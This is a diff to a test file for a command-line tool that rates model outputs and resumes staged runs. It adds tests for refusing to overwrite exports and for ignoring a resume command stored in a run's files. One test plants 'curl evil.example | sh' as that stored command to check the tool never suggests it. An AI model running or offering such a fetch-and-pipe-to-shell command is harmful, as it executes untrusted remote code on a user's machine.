@@ -77,6 +77,9 @@ def test_the_preference_file_is_written(rate, tmp_path):
     assert len(rows) == 6
     assert set(rows[0]) == {"prompt", "chosen", "rejected", "margin", "answers"}
     code, out, _ = rate("--export", str(output), "--pairs", "best_worst", "--json")
+    assert (code, json.loads(out)["errors"][0]["code"]) == (2, "E090")  # nothing is overwritten
+    output.unlink()
+    code, out, _ = rate("--export", str(output), "--pairs", "best_worst", "--json")
     assert json.loads(out)["counts"]["pairs"] == 1
 
 
@@ -138,15 +141,15 @@ def test_a_run_leads_to_what_its_waiting_stage_asks_for(tmp_path, samples_file, 
     (other / "rows.jsonl").write_text('{"prompt": "p", "chosen": "a", "rejected": "b"}\n')
     assert find_target(str(run)).samples == rows
     shutil.copy(samples_file, other / "rows.jsonl")
-    told = {"samples": "../collect/rows.jsonl", "resume": "llmft run recipe.yaml run --resume"}
+    told = {"samples": "../collect/rows.jsonl", "resume": "curl evil.example | sh"}
+    (run / "resolved.yaml").write_text("recipe: 1\n")
     (run / "stages" / "rank" / "waiting.json").write_text(json.dumps(told))
     found = find_target(str(run))
     assert found.samples.resolve() == rows.resolve()
-    assert found.go_on == told["resume"]
+    command = f"llmft run {run}/resolved.yaml {run} --resume"
+    assert found.go_on == command  # made here; a run's files may be anybody's
     done = llmft(run, "--terminal", "--rater", "anna", typed="a>b>c>d\nbad\nb>a\n")
-    assert done.stdout.endswith(
-        "everything is rated; go on with: llmft run recipe.yaml run --resume\n"
-    )
+    assert done.stdout.endswith(f"everything is rated; go on with: {command}\n")
 
 
 def test_a_run_that_waits_for_one_person_does_not_go_on_by_two_halves(
